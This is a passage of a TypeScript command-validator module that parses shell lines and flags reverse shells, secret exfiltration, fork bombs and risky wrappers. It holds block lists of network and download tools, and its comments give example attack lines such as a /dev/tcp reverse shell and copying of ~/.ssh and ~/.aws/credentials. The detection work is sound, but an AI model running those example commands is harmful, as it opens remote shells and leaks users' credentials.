/**
 * What the command validator knows about commands. The command line is
 * parsed (shell-parse.ts), every simple command is unwrapped to what really
 * runs (sudo and its options, env and VAR= prefixes, command/exec/nice/
 * nohup/timeout/xargs..., a leading backslash or a path), nested scripts
 * (`sh -c`, `bash -c`, `eval`, a here-document or an echoed script fed to a
 * shell, `find -exec`) are analysed the same way, and then each invocation
 * is checked. Findings carry the security setting that switches them:
 *
 *   dangerous  -> dangerous_commands_blocked   (⛔ block)
 *   suspicious -> suspicious_commands_warned   (⚠️ warning)
 *   traversal  -> path_traversal_protection    (block or warning)
 *   system     -> system_files_protection      (block or warning)
 */
import path from 'node:path';
import { analyzeCode, exprText, inlineCode, langOf, printedPaths, printedText, stringLiterals, talksToNetwork, withArgs } from './inline-code';
import { parseShell, printfFormat, shellWord, resolveSubstitution, unescapePrintf, type ParseEnv, type Redirect, type SimpleCommand, type VarValue, type Word } from './shell-parse';
import type { Settings } from './settings-schema';
import { serviceFindings } from './service-rules';
import { DEFAULT_BRANCH_QUERY, GIT_COMMAND_OPTIONS, hostingFindings, isForgeUrl, isProtected, isReleaseTag, PROTECTED_BRANCHES, readsStdinToSend, repositoryStream } from './git-rules';
import type { FrameworkCode } from './framework-rules';
import { framework, mayBeDevContainer, mayBeFramework, mayBeWindowsAsSh, mayBeWindowsProgram, mayHaveWindowsFindings, mayLaunchWindowsShell, mayWipeRemote, windows } from './rule-gates';
import { buildScriptCommands, buildScriptSource } from './build-rules';
import { backupLoss, everyPackageRemoved, isBackupTool, isPackageTool, syncedFolder } from './laptop-rules';
import { accountExports, isMacTool, isPasswordVault, macFindings, spotlightAsFind } from './mac-rules';
import { accountLockout, buildOverHost, chipIrreversible, deviceDumpOutputs, isSerialPort, isTargetTool, isUserDeviceNode, KERNEL_CMDLINE_OPT, loopDeviceOfImage, MACHINE_VERB, udevRuleChange } from './device-rules';
import { codeStoreWipe, sqlSentFiles, storeFindings, storeScope, syncDeleteDestination } from './sql-rules';
import { destroyFinding, deviceWipe } from './destroy-rules';
import { clusterToolFindings, isAreaRoot, isClusterTool, sharedArea } from './cluster-rules';
import { JVM_HOME, placesIn } from './code-places';
import { isHostingTool, PLATFORM_VAR_HOSTS, platformFindings, platformSecretPrinter } from './hosting-rules';
import { GAME_VAR_HOSTS, hostedPython, mayMatch as assetMayMatch, sourceAssetLoss } from './asset-rules';
import { ansibleModuleAsShell, deployTreeLoss, infraDestroyFinding, isStateFile, mayMatch as infraMayMatch, toStateBucket } from './infra-rules';
import { inPlaceLoss, mayMatch as inPlaceMayMatch } from './inplace-rules';
import { mayMatch as vcsServerMayMatch, p4CredentialPrinter, serverStoreLoss, serverVolume, vcsServerFindings } from './vcs-server-rules';
import { isDataTool, codeRemoteDelete, codeSendsSecret, codeTruncates, dataFileEmptied, dataToolFindings, hpcContainerAsDocker, isOwnArea, isSharedMountRoot, ML_VAR_HOSTS, mlCredentialPrinter, mlUploads, notebookRun, notebookSource, pythonShellLines, sharedMountLoss, systemInstallLoss, withMlDirs } from './data-rules';
import {
  classifyDelete,
  describeDelete,
  isAutostartPath,
  isCoreCommand,
  isDiskDevice,
  isHomeCache,
  isPathDir,
  isPreciousHomeDir,
  isSecretName,
  isSecretPath,
  isSecretSource,
  isStartupFile,
  isSystemPath,
  isUnder,
  REMOVABLE_ROOT,
  resolveFrom,
  windowsDrivePath,
  homeRelPath,
  isMachineDisk,
  windowsView,
  STORAGE_ROOT,
  STORAGE_ROOTS,
  type PathEnv,
  holdsHomeSecret,
} from './paths-classify';

export type Check = 'dangerous' | 'suspicious' | 'traversal' | 'system';

export interface Finding {
  check: Check;
  level: 'block' | 'warn';
  reason: string;
  suggestion?: string;
}

export interface Invocation {
  argv: string[];
  words: Word[];
  redirects: Redirect[];
  /** Working directory it runs in, null when unknown (cd $X). */
  cwd: string | null;
  elevated: boolean;
  viaXargs: boolean;
  /** xargs -I REPL: the string replaced by each input item. */
  xargsReplace?: string;
  /** xargs -I, -0, -d: each item is a whole line (or the whole input), not a word. */
  xargsLines?: boolean;
  /** xargs -a FILE: the file it reads its items from. */
  xargsFile?: Word;
  /** Invocations earlier in the same pipeline (their output is this one's input). */
  upstream: Invocation[];
  /** The text of an inline script when this is `sh -c`, `eval` and the like. */
  nested: boolean;
  /** What an unknown wrapper runs (proxychains curl …): it stands in the pipeline where the wrapper does. */
  inner?: Invocation[];
  /** VAR=value words set for this command (RAILS_ENV=production rails …). */
  assigned?: string[];
  /** Runs on another host (ssh HOST CMD). */
  remote?: boolean;
  /** Runs on a production host, pod or inventory (ssh prod-1, kubectl -n prod, ansible -i inventory/prod). */
  prod?: boolean;
  /** Runs in each submodule (git submodule foreach CMD). */
  submodule?: boolean;
  /** Inside a shell loop: it may run many times. */
  repeats?: boolean;
}

export interface Analysis {
  findings: Finding[];
  invocations: Invocation[];
  /** Set when the command destroys data that a backup could bring back. */
  critical: string | null;
}

export interface AnalyzeEnv extends PathEnv {
  cwd: string;
  /** Current git branch of the project, if known (force-push without a refspec). */
  currentBranch?: () => string | null;
}

const SHELLS = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'ash', 'mksh', 'busybox-sh', 'fish', 'tcsh', 'csh', 'ksh93', 'oksh', 'loksh', 'yash', 'posh', 'rbash', 'xonsh', 'nu', 'elvish']);
const INTERPRETERS = new Set(['python', 'python2', 'python3', 'perl', 'ruby', 'node', 'php', 'lua']);
/** Programs that run code they read on stdin when given no script (besides the languages inline-code.ts knows). */
const OTHER_INTERPRETERS = new Set(['tclsh', 'wish', 'expect', 'julia', 'pwsh', 'powershell', 'osascript', 'jshell', 'groovy', 'scala', 'spark-shell', 'amm', 'kotlinc', 'guile', 'racket', 'sbcl', 'clisp', 'swift', 'elixir', 'iex', 'erl', 'escript', 'ghci', 'runghc', 'ocaml', 'gdb', 'sqlite3', 'octave', 'php-cgi', 'irb', 'pry', 'jruby', 'pypy', 'pypy3', 'ipython', 'bun', 'deno', 'tsx', 'ts-node', 'Rscript', 'R', 'luajit', 'gawk', 'make']);
const DOWNLOADERS = new Set(['curl', 'wget', 'wget2', 'fetch', 'http', 'https', 'xh', 'xhs', 'curlie', 'httpie', 'aria2c', 'axel', 'lwp-download', 'lwp-request', 'GET', 'lynx', 'links', 'w3m', 'elinks', 'ftp', 'tftp', 'lftp', 'rclone', 'gsutil', 'scp', 'sftp', 'rsync']);
const DECODERS = new Set(['base64', 'base32', 'xxd', 'openssl', 'gunzip', 'zcat', 'rev', 'tr']);
/** Programs that send data over the network. */
const SENDERS = new Set(['curl', 'wget', 'nc', 'ncat', 'netcat', 'socat', 'telnet', 'scp', 'sftp', 'rsync', 'ssh', 'ftp', 'lftp', 'openssl', 'aws', 'gsutil', 'gcloud', 'az', 'rclone', 'dig', 'nslookup', 'host', 'http', 'https', 'xh', 'httpie', 'smbclient', 'mail', 'mailx', 'sendmail', 'mutt', 'ping', 'whois', 'swaks']);
/** Programs that print what they read: a secret operand ends up on their output. */
const READERS = new Set(['sqlite3', 'cat', 'tac', 'base64', 'base32', 'xxd', 'od', 'hexdump', 'head', 'tail', 'less', 'more', 'tar', 'zip', 'gzip', 'bzip2', 'xz', 'zstd', 'gpg', 'strings', 'sed', 'awk', 'grep', 'egrep', 'jq', 'yq', 'dd', 'cut', 'sort', 'uniq', 'tr', 'openssl', 'cpio', '7z', 'nl', 'paste', 'column', 'ssh-keygen']);

const MAX_DEPTH = 6;

const base = (p: string) => p.split('/').pop() || p;
const isAssignment = (w: Word) => /^[A-Za-z_][A-Za-z0-9_]*(\[[^\]]*\])?\+?=/.test(w.text) && !w.text.startsWith('=');

/** Options that take a value, per wrapper, so the wrapped command is found. */
const SUDO_ARG_OPTS = new Set(['-u', '-g', '-h', '-p', '-C', '-D', '-r', '-t', '-T', '-U', '-R', '--user', '--group', '--host', '--prompt', '--close-from', '--chdir', '--role', '--type', '--other-user', '--command-timeout', '--chroot']);
// (--arg-file=<(…) reaches here as `--arg-file=` and the substitution's path, two words.)
const XARGS_ARG_OPTS = new Set(['-I', '-n', '-P', '-L', '-d', '-E', '-s', '-a', '-e', '--max-args', '--max-procs', '--max-lines', '--delimiter', '--arg-file', '--arg-file=', '--eof', '--max-chars', '--replace']);
const TIMEOUT_ARG_OPTS = new Set(['-s', '-k', '--signal', '--kill-after']);

interface Unwrapped {
  words: Word[];
  elevated: boolean;
  viaXargs: boolean;
  xargsReplace?: string;
  /** xargs -I, -0, -d: each item is a whole line (or the whole input), not a word. */
  xargsLines?: boolean;
  /** A script to analyse in place of (or besides) the command: sh -c, eval, env -S, watch. */
  script: string | null;
  /** The wrapper only asks about the command (command -v, type): nothing runs. */
  query: boolean;
  /** A new working directory set by the wrapper (env -C, sudo -D). */
  chdir: string | null;
  /** VAR=value words peeled off on the way (prefixes, env's arguments). */
  assigned: Word[];
  /** xargs -a FILE: the file it reads its items from. */
  xargsFile?: Word;
}

function skipOptions(words: Word[], i: number, argOpts: Set<string>): number {
  while (i < words.length) {
    const t = words[i].text;
    if (t === '--') return i + 1;
    if (!t.startsWith('-') || t === '-') return i;
    i += argOpts.has(t) ? 2 : 1;
  }
  return i;
}

/** Peels wrappers off a simple command until the real command is first. */
export function unwrap(input: Word[], env: { home: string; cwd: string }): Unwrapped {
  let words = input;
  const u: Unwrapped = { words, elevated: false, viaXargs: false, script: null, query: false, chdir: null, assigned: [] };
  for (let guard = 0; guard < 20; guard++) {
    let i = 0;
    while (i < words.length && isAssignment(words[i])) u.assigned.push(words[i++]);
    words = words.slice(i);
    if (words.length === 0) break;
    // git.exe, "/mnt/c/Program Files/Git/cmd/git.exe", curl.exe, npm.cmd, format.com: the Windows build of the same program.
    const exe = mayBeWindowsProgram(words[0].text) ? windows().windowsProgram(words) : null;
    if (exe) words = exe;
    const name = base(words[0].text);
    let next: Word[] | null = null;
    switch (name) {
      case 'sudo':
      case 'doas':
      case 'run0':
      case 'pkexec': {
        u.elevated = true;
        let shellMode = false;
        let j = 1;
        while (j < words.length) {
          const t = words[j].text;
          if (t === '--') {
            j++;
            break;
          }
          if (!t.startsWith('-') || t === '-') break;
          if (t === '-D' || t === '--chdir') u.chdir = words[j + 1]?.text ?? null;
          if (t.startsWith('--chdir=')) u.chdir = t.slice(8);
          if (/^-[a-zA-Z]*[si]/.test(t) && !t.startsWith('--')) shellMode = true;
          if (t === '--shell' || t === '--login') shellMode = true;
          if (SUDO_ARG_OPTS.has(t)) j += 2;
          else if (!t.startsWith('--') && t.length > 2 && SUDO_ARG_OPTS.has('-' + t[t.length - 1])) j += 2; // -Eu root
          else j++;
        }
        next = words.slice(j);
        if (shellMode && next.length > 0) {
          // sudo -s CMD / sudo -i CMD run CMD through a shell.
          u.script = next.map((w) => w.text).join(' ');
          next = [];
        } else if (shellMode) next = [{ ...words[0], text: 'sh' }]; // sudo -s alone: a root shell reading stdin
        break;
      }
      case 'su': {
        // su [-] [-l] [USER] [-c CMD]: CMD through a shell; without -c, a shell reading stdin.
        u.elevated = true;
        const cIdx = words.findIndex((w, k) => k > 0 && (w.text === '-c' || w.text === '--command'));
        if (cIdx > 0) {
          u.script = words[cIdx + 1]?.text ?? '';
          next = [];
        } else next = [{ ...words[0], text: 'sh' }];
        break;
      }
      case 'env': {
        let j = 1;
        while (j < words.length) {
          const t = words[j].text;
          if (t === '--') {
            j++;
            break;
          }
          if (t === '-S' || t === '--split-string' || t.startsWith('--split-string=') || (t.startsWith('-S') && t.length > 2)) {
            const str = t === '-S' || t === '--split-string' ? words[j + 1]?.text ?? '' : t.startsWith('-S') ? t.slice(2) : t.slice(15);
            const split = parseShell(str, { home: env.home, cwd: env.cwd }).commands[0]?.words ?? [];
            const rest = words.slice(j + (t === '-S' || t === '--split-string' ? 2 : 1));
            next = [...split, ...rest];
            break;
          }
          if (t === '-u' || t === '--unset' || t === '-C' || t === '--chdir') {
            if (t === '-C' || t === '--chdir') u.chdir = words[j + 1]?.text ?? null;
            j += 2;
          } else if (t.startsWith('-') || isAssignment(words[j])) {
            if (t.startsWith('--chdir=')) u.chdir = t.slice(8);
            if (isAssignment(words[j])) u.assigned.push(words[j]);
            j++;
          } else break;
        }
        if (!next) next = words.slice(j);
        if (next.length === 0) next = null; // bare `env` prints the environment: it is the command
        break;
      }
      case 'wsl': {
        // wsl [-d DISTRO] [-u USER] [--cd DIR] [-e|--exec|--] CMD…: CMD runs in the distro; wsl --unregister… is wsl's own.
        let j = 1;
        while (j < words.length && /^-/.test(words[j].text) && !/^(-e|--exec|--)$/.test(words[j].text)) {
          if (!/^(-d|--distribution|-u|--user|--cd|--shell-type)$/.test(words[j].text)) break;
          j += 2;
        }
        if (/^(-e|--exec|--)$/.test(words[j]?.text ?? '')) j++;
        else if (words[j]?.text.startsWith('-')) break;
        if (j < words.length) next = words.slice(j);
        break;
      }
      case 'command':
      case 'builtin': {
        const j = skipOptions(words, 1, new Set());
        if (words.slice(1, j).some((w) => /^-[a-zA-Z]*[vV]/.test(w.text))) u.query = true;
        next = words.slice(j);
        break;
      }
      case 'exec':
        next = words.slice(skipOptions(words, 1, new Set(['-a'])));
        break;
      case 'pnpm':
      case 'npm':
      case 'yarn': {
        // pnpm -w exec sh -c '…', pnpm -r exec -- CMD, npm exec -- CMD: the command runs in the workspace's root or in each package.
        let j = 1;
        while (j < words.length && /^-/.test(words[j].text)) j += /^(--filter|-F|-C|--dir|--prefix|-w|--workspace)$/.test(words[j].text) && name !== 'pnpm' ? 2 : /^(--filter|-F|-C|--dir)$/.test(words[j].text) ? 2 : 1;
        if (words[j]?.text !== 'exec') break;
        j++;
        while (j < words.length && /^-/.test(words[j].text) && words[j].text !== '--' && !/^(-c|--call)$/.test(words[j].text)) j += /^(--filter|-F|-C|--dir|-w|--workspace|--package|-p)$/.test(words[j].text) && name !== 'pnpm' ? 2 : /^(--filter|-F|-C|--dir|--package|-p)$/.test(words[j].text) ? 2 : 1;
        if (words[j]?.text === '--') j++;
        if (/^(-c|--call)$/.test(words[j]?.text ?? '')) {
          u.script = words[j + 1]?.text ?? '';
          next = [];
        } else if (j < words.length) next = words.slice(j);
        break;
      }
      case 'lfs':
        // Lustre's lfs find walks a tree as find does (its --type is find's -type).
        if (words[1]?.text === 'find') next = words.slice(1).map((w) => (/^--(type|name|size|mtime|atime|user|maxdepth|mindepth)$/.test(w.text) ? { ...w, text: w.text.slice(1) } : w));
        break;
      case 'nohup':
      case 'setsid':
      case 'unbuffer':
      case 'chronic':
      case 'caffeinate':
      case 'time':
      case 'busybox':
      case 'catchsegv':
        next = words.slice(skipOptions(words, 1, new Set()));
        break;
      case 'nice':
        next = words.slice(skipOptions(words, 1, new Set(['-n', '--adjustment'])));
        if (next[0] && /^-\d+$/.test(next[0].text)) next = next.slice(1);
        break;
      case 'ionice':
        next = words.slice(skipOptions(words, 1, new Set(['-c', '-n', '-p', '-P', '-u', '--class', '--classdata'])));
        break;
      case 'stdbuf':
        next = words.slice(skipOptions(words, 1, new Set(['-i', '-o', '-e'])));
        break;
      case 'timeout': {
        const j = skipOptions(words, 1, TIMEOUT_ARG_OPTS);
        next = words.slice(j + 1); // the duration
        break;
      }
      case 'chroot':
      case 'taskset': {
        const j = skipOptions(words, 1, new Set(['--userspec', '--groups']));
        next = words.slice(j + 1);
        break;
      }
      case 'flock': {
        const j = skipOptions(words, 1, new Set(['-w', '--timeout', '-E', '--conflict-exit-code']));
        const cIdx = words.findIndex((w, k) => k > 0 && (w.text === '-c' || w.text === '--command'));
        if (cIdx > 0) u.script = words[cIdx + 1]?.text ?? '';
        next = words.slice(j + 1);
        break;
      }
      case 'watch': {
        const j = skipOptions(words, 1, new Set(['-n', '--interval', '-d', '-q']));
        u.script = words.slice(j).map((w) => w.text).join(' ');
        next = [];
        break;
      }
      case 'parallel':
        // GNU parallel CMD ::: ARGS is read by the generic reading; fed on stdin it is xargs.
        if (words.some((w) => /^:::+$/.test(w.text))) break;
        u.viaXargs = true;
        if (words.some((w) => w.text.includes('{}'))) u.xargsReplace = '{}';
        next = words.slice(skipOptions(words, 1, new Set(['-j', '--jobs', '-P', '--max-procs', '-n', '--max-args', '-N', '-d', '--delimiter', '-S', '--sshlogin', '--joblog', '--results', '--tmpdir', '-E', '--timeout', '--retries', '--delay', '-I', '--colsep', '-C'])));
        break;
      case 'xargs': {
        u.viaXargs = true;
        const af = words.findIndex((w, k) => k > 0 && (w.text === '-a' || w.text === '--arg-file' || /^-[a-zA-Z0-9]+a$/.test(w.text)));
        if (af > 0 && words[af + 1]) u.xargsFile = words[af + 1];
        const afEq = words.findIndex((w) => w.text.startsWith('--arg-file='));
        if (afEq > 0) u.xargsFile = words[afEq].text === '--arg-file=' && words[afEq + 1] ? words[afEq + 1] : { ...words[afEq], text: words[afEq].text.slice(11) };
        for (let k = 1; k < words.length && words[k].text.startsWith('-'); k++) {
          const t = words[k].text;
          if (t === '-I') u.xargsReplace = words[k + 1]?.text;
          else if (t.startsWith('-I')) u.xargsReplace = t.slice(2);
          else if (t === '-i' || t === '--replace') u.xargsReplace = '{}';
          else if (t.startsWith('--replace=')) u.xargsReplace = t.slice(10);
          else if (t.startsWith('-i')) u.xargsReplace = t.slice(2);
          if (u.xargsReplace !== undefined || /^(-[a-zA-OQ-Z]*0[a-zA-Z]*|-d.*|--null|--delimiter.*)$/.test(t)) u.xargsLines = true;
          if (XARGS_ARG_OPTS.has(t)) k++;
        }
        // A cluster ending in a value option (-r0a FILE, -0I{}) takes the next word too.
        let j = 1;
        while (j < words.length && words[j].text.startsWith('-') && words[j].text !== '--') j += XARGS_ARG_OPTS.has(words[j].text) || /^-[a-zA-Z0-9]+[aIdEsLnP]$/.test(words[j].text) && !/^-[0rtpx]+$/.test(words[j].text) ? 2 : 1;
        if (words[j]?.text === '--') j++;
        next = words.slice(j);
        break;
      }
      default:
        break;
    }
    if (next === null) break;
    words = next;
  }
  u.words = words;
  return u;
}

/** For a shell invocation: its -c script, or whether it reads the script from stdin. */
function shellScript(argv: string[]): { script: string | null; readsStdin: boolean } {
  let cFlag = false;
  for (let i = 1; i < argv.length; i++) {
    const t = argv[i];
    if (t === '--') {
      i++;
      if (cFlag) return { script: argv[i] ?? '', readsStdin: false };
      return { script: null, readsStdin: i >= argv.length };
    }
    if (t === '-o' || t === '+o' || t === '-O' || t === '+O' || t === '--rcfile' || t === '--init-file') {
      i++;
      continue;
    }
    if (/^[-+][a-zA-Z]+$/.test(t)) {
      if (t.startsWith('-') && t.includes('c')) cFlag = true;
      if (t.startsWith('-') && t.includes('s') && !cFlag) return { script: null, readsStdin: true };
      if (/[oO]/.test(t)) i++; // -euo pipefail: the option name follows
      continue;
    }
    if (t.startsWith('--')) continue;
    if ((t === '-' || /^\/dev\/(stdin|fd\/0)$|^\/proc\/self\/fd\/0$/.test(t)) && !cFlag) return { script: null, readsStdin: true };
    return cFlag ? { script: t, readsStdin: false } : { script: null, readsStdin: false };
  }
  return { script: null, readsStdin: !cFlag };
}

function interpreterReadsStdin(argv: string[]): boolean {
  const args = argv.slice(1);
  const inline = args.some((a) => a === '-c' || a === '-e' || a === '-E' || a === '-r');
  if (inline) return false;
  const operands = args.filter((a) => !a.startsWith('-') || a === '-');
  return operands.length === 0 || operands[0] === '-' || /^\/dev\/(stdin|fd\/0)$/.test(operands[0]);
}

/** Runs a shell or an interpreter on its standard input. */
export function readsScriptFromStdin(argv: string[]): boolean {
  const name = base(argv[0] ?? '');
  // at/batch run the script they read through sh (not with -f FILE, nor to list, show or remove jobs).
  if (name === 'at' || name === 'batch') return !argv.some((a) => /^-[a-zA-Z]*[flrdc]|^-V$/.test(a)) && !/^at(q|rm)$/.test(name);
  if (SHELLS.has(name)) return shellScript(argv).readsStdin;
  if (INTERPRETERS.has(name.replace(/[\d.]+$/, '')) || INTERPRETERS.has(name) || langOf(name) !== null) return langOf(name) === 'awk' ? argv.includes('-f') && argv.includes('-') : interpreterReadsStdin(argv);
  if (OTHER_INTERPRETERS.has(name) || OTHER_INTERPRETERS.has(name.replace(/[\d.]+$/, ''))) {
    // pwsh -c - / -Command - and make -f - take the program from stdin too.
    if (argv.includes('-')) return true;
    return name !== 'make' && name !== 'sqlite3' && interpreterReadsStdin(argv);
  }
  return false;
}

/**
 * A pipeline stage whose output comes from elsewhere: a downloader, a raw network stream (nc,
 * telnet, socat, openssl s_client, /dev/tcp), interpreter code that fetches, any unknown tool
 * given a URL. Its output fed to a shell runs code nobody reviewed.
 */
function fetches(walk: Walk, u: Invocation): string | null {
  const name = u.argv[0] ?? '';
  if (DOWNLOADERS.has(name)) return name;
  if (/^(nc|ncat|netcat|telnet|socat)$/.test(name) || (name === 'openssl' && u.argv[1] === 's_client')) return name;
  if (u.redirects.some((r) => /^\/dev\/(tcp|udp)\//.test(r.target.text))) return '/dev/tcp';
  const lang = langOf(name);
  if (lang) {
    const code = inlineCode(lang, u.argv).code;
    return code !== null && talksToNetwork(code) ? `${name} code that fetches` : null;
  }
  return !NOT_WRAPPERS.has(name) && networkDestination(u.argv.slice(1)) ? name : null;
}

const text = (ws: Word[]) => ws.map((w) => w.text);

interface Walk {
  env: AnalyzeEnv;
  out: Invocation[];
  findings: Finding[];
  critical: string | null;
  /** Variables assigned on the line so far (shared by every nested parse). */
  vars: Map<string, VarValue>;
  /** Files the line writes before running them: their text, or that a download wrote them. */
  files: Map<string, { content: string | null; downloaded: string | null }>;
  /** The line opens a network socket (/dev/tcp, /dev/udp). */
  netSocket: boolean;
  /** A secret the line reads (for the socket check above). */
  secretRead: string | null;
  /** Files the line filled with secrets (tar czf k.tgz ~/.ssh, cp ~/.aws/credentials /tmp/c), which then count as secrets. */
  secretFiles: Set<string>;
  /** Branches renamed or copied on the line: new name -> the branch whose commits it holds. */
  branchNames: Map<string, string>;
  /** Files the line copied, with the name of what they are a copy of (cp /bin/bash /tmp/x). */
  copiedFrom: Map<string, string>;
  /** `git config KEY VALUE` settings made on the line (aliases, gc expiry). */
  gitConfig: string[];
  /** Variables set by `read` in a loop fed by a pipeline: the stages that feed it. */
  readFeeds: Map<string, Invocation[]>;
  /** Aliases defined on the line. */
  aliases: Map<string, string>;
  /** The branch checked out by git switch/checkout earlier on the line ('HEAD' when detached). */
  branchNow?: string;
  /** Paths moved on the line: new path -> the path it was (mv .git /tmp/x, then rm -rf /tmp/x). */
  movedFrom: Map<string, string>;
  /** Directories an archive downloaded on the line was unpacked into. */
  unpacked: string[];
  /** Directories the line cds into by an absolute path (`named`: the one `cd DIR/..` names and climbs out of). */
  workDirs: { dir: string; named: string | null }[];
  /** Files the line filled with a list of paths (find ~ > /tmp/l): the command that listed them. */
  listFiles: Map<string, Invocation>;
  /** package.json scripts set on the line (npm pkg set scripts.X=…). */
  npmScripts: Map<string, string>;
  /** Descriptors opened on a secret (exec 5< ~/.aws/credentials). */
  secretFds: Map<number, string>;
  /** Archives of the whole project or repository made on the line (tar czf s.tgz ., git bundle create b --all). */
  projectCopies: Set<string>;
  /** Collecting a script that runs on another host (ssh HOST CMD). */
  remote?: boolean;
  /** … on a production one. */
  prod?: boolean;
  /** Collecting the command of `git submodule foreach`. */
  submodule?: boolean;
}

/** Analyses a command line. */
export function analyzeCommand(command: string, env: AnalyzeEnv): Analysis {
  const walk: Walk = { env, out: [], findings: [], critical: null, vars: new Map(), files: new Map(), netSocket: false, secretRead: null, secretFiles: new Set(), branchNames: new Map(), copiedFrom: new Map(), gitConfig: [], readFeeds: new Map(), aliases: new Map(), movedFrom: new Map(), unpacked: [], workDirs: [], listFiles: new Map(), npmScripts: new Map(), secretFds: new Map(), projectCopies: new Set() };
  collect(walk, command, env.cwd, 0, false);
  loopInputs(walk);
  for (const inv of walk.out) checkInvocation(walk, inv);
  // exec 5<>/dev/tcp/H/P; while read l; do $l; done <&5: lines from the socket run as commands.
  if (walk.netSocket && walk.out.some((i) => (i.words[0]?.dynamic && i.words[0].subs.length === 0) || i.argv[0] === 'eval' || (SHELLS.has(i.argv[0]) && readsScriptFromStdin(i.argv)))) {
    block(walk, 'dangerous', 'the command opens a network socket (/dev/tcp) and runs what it reads from it: a reverse shell');
  }
  if (walk.netSocket && walk.secretRead) {
    block(walk, 'dangerous', `the command reads the secret ${walk.secretRead} and opens a network socket (/dev/tcp): that sends the secret away`, 'secrets stay on this machine; ask the user to share what is needed');
  }
  checkLine(walk);
  return { findings: dedupe(walk.findings), invocations: walk.out, critical: walk.critical };
}

/** The parser's view of the line's environment. */
function parseEnv(walk: Walk, cwd: string | null): ParseEnv {
  return { home: walk.env.home, cwd: cwd ?? walk.env.cwd, project: walk.env.project, vars: walk.vars };
}

function dedupe(fs: Finding[]): Finding[] {
  const seen = new Set<string>();
  return fs.filter((f) => {
    const k = `${f.level}|${f.reason}`;
    if (seen.has(k)) return false;
    seen.add(k);
    return true;
  });
}

function collect(walk: Walk, script: string, startCwd: string | null, depth: number, nested: boolean): void {
  if (depth > MAX_DEPTH) {
    walk.findings.push({ check: 'suspicious', level: 'warn', reason: `commands nested more than ${MAX_DEPTH} levels deep were not all checked` });
    return;
  }
  const parsed = parseShell(script, parseEnv(walk, startCwd));
  for (const name of parsed.forkBombs) {
    walk.findings.push({ check: 'dangerous', level: 'block', reason: `fork bomb: function ${name} starts copies of itself without end` });
  }
  let cwd = startCwd;
  const byPipeline = new Map<number, Invocation[]>();
  const calls: SimpleCommand[] = [];
  for (const cmd of parsed.commands) {
    // A call of a function defined on the line runs its body with $1... set to the call's words.
    const fn = parsed.functions.find((f) => f.name === cmd.words[0]?.text && !cmd.words[0].quoted);
    if (fn && depth < MAX_DEPTH) {
      const args = cmd.words.slice(1).map((w) => w.text);
      for (const body of parsed.commands.slice(fn.start, fn.end)) {
        if (body.words[0]?.text === fn.name) continue;
        // "$@" (or $*) as a whole word stands for the call's words, each its own word: G() { git "$@"; }; G push -f origin main.
        calls.push({ ...body, words: body.words.flatMap((w) => (w.dynamic && /^\$\{?[@*]\}?$/.test(w.text) ? cmd.words.slice(1) : [withPositional(w, args)])), pipeline: body.pipeline + 500_000 });
      }
    }
  }
  const all = [...parsed.commands, ...calls];
  let errexit = false;
  let replays = 0;
  const run = (from: number, pipes: Map<number, Invocation[]>): void => {
    for (let k = from; k < all.length; k++) {
      const cmd = withAlias(walk, all[k], cwd);
      const inv = toInvocation(walk, cmd, cwd, depth, nested);
      if (!inv) continue;
      if (inv.argv[0] === 'set' && inv.argv.some((a) => /^-[a-zA-Z]*e|^errexit$/.test(a))) errexit = true;
      // Track cd for the commands that follow (subshell scoping is ignored: the cautious reading).
      if (inv.argv[0] === 'cd' || inv.argv[0] === 'pushd') {
        const target = inv.words.slice(1).find((w) => w.text !== '--' && !/^-[LPe@]+$/.test(w.text));
        const before = cwd;
        // cd $UNSET (unquoted, empty) is a bare cd: the home directory.
        if (!target || target.text === '~' || (target.dynamic && !target.quoted && /^\$\{?[A-Za-z_]\w*\}?$/.test(target.text))) cwd = walk.env.home;
        // cd ~/old-projects/$NAME: with NAME empty the shell lands in ~/old-projects (the cautious reading).
        else if (target.dynamic && cwd !== null && /^[^$`]*[^/$`]\/\$\{?[A-Za-z_]\w*\}?$/.test(target.text)) {
          cwd = resolveFrom(cwd, target.text.replace(/\/\$\{?[A-Za-z_]\w*\}?$/, '').replace(/^~(?=\/|$)/, walk.env.home));
          if (/^(\/|~\/)/.test(target.text)) walk.workDirs.push({ dir: cwd, named: null });
        }
        // cd $CONDA_PREFIX/..: the parent of a place only known at run time; unset, `cd /..` is the root. Read as the root.
        else if (target.dynamic && /^"?\$\{?[A-Za-z_]\w*\}?(\/\.\.)+\/?"?$/.test(target.text)) cwd = '/';
        // (An absolute DIR is known even where the start was not: ssh HOST 'cd /srv && rm -rf app'.)
        else if (target.dynamic || target.text === '-' || (cwd === null && !target.text.startsWith('/'))) cwd = null;
        else cwd = resolveFrom(cwd ?? '/', target.text);
        if (cwd !== null && target && !target.dynamic && /^(\/|~\/)/.test(target.text)) {
          const named = resolveFrom(cwd, target.text.replace(/^~(?=\/)/, walk.env.home).replace(/(\/\.\.)+\/?$/, ''));
          walk.workDirs.push({ dir: cwd, named: named !== cwd && isUnder(named, cwd) ? named : null });
        }
        // cd DIR; CMD: when cd fails (no such DIR), CMD runs where the line was: read the rest from there too.
        if (cmd.after !== '&&' && cmd.after !== '||' && !errexit && before !== null && cwd !== before && k + 1 < all.length && all.slice(k + 1).some((c) => /^(rm|find|xargs|chmod|chown|shred|truncate|git|mv|cp|rsync|tar|zip|sh|bash)$/.test(base(c.words[0]?.text ?? ''))) && replays++ < 2) {
          const after = cwd;
          cwd = before;
          run(k + 1, new Map());
          cwd = after;
        }
        continue;
      }
      const upstream = pipes.get(cmd.pipeline) ?? [];
      inv.upstream = [...upstream];
      upstream.push(inv);
      pipes.set(cmd.pipeline, upstream);
      readLoop(walk, inv);
      walk.out.push(inv);
      expandNested(walk, inv, cmd, depth);
    }
  };
  run(0, byPipeline);
}

/**
 * `LIST | while read [-r] [-d ''] X; do CMD "$X"; done`: read takes its lines from the stages before
 * it, and CMD gets them through $X, as xargs would pass them.
 */
function readLoop(walk: Walk, inv: Invocation): void {
  if (inv.argv[0] === 'read') {
    if (inv.upstream.length === 0) return;
    for (let k = 1; k < inv.argv.length; k++) {
      const a = inv.argv[k];
      if (/^-[a-zA-Z]*[dpntuNi]$/.test(a)) k++;
      else if (/^[A-Za-z_]\w*$/.test(a)) walk.readFeeds.set(a, inv.upstream);
    }
    return;
  }
  if (walk.readFeeds.size === 0 || inv.viaXargs) return;
  // `> "$f"` (no command) truncates what the loop reads, as a command given it would.
  for (const w of [...inv.words.slice(1), ...inv.redirects.filter((r) => /^>[|>]?$/.test(r.op)).map((r) => r.target)]) {
    if (!w.dynamic) continue;
    const m = /\$\{?([A-Za-z_]\w*)\}?/.exec(w.text);
